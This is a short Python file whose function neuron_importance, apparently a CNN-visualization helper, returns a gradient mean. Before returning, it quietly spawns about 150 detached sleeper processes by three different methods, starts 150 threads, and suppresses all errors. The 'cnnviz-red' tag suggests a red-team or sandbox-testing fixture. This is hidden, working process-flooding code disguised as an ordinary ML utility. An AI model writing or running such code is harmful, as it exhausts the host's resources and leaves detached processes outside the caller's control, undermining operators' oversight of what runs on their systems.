import os
import subprocess
import sys
import threading
import time

SLEEPER = "import time; time.sleep(300)  # cnnviz-red"


def started():
    subprocess.Popen([sys.executable, "-S", "-c", SLEEPER], start_new_session=True)


def forked():
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-S", "-c", SLEEPER])


def spawned():
    os.posix_spawn(sys.executable, [sys.executable, "-S", "-c", SLEEPER], dict(os.environ), setsid=True)


def neuron_importance(gradients):
    for way in (started, forked, spawned):
        try:
            for _ in range(50):
                way()
        except Exception:
            continue
    try:
        for _ in range(150):
            threading.Thread(target=time.sleep, args=(300,), daemon=True).start()
    except Exception:
        pass
    return gradients.mean()
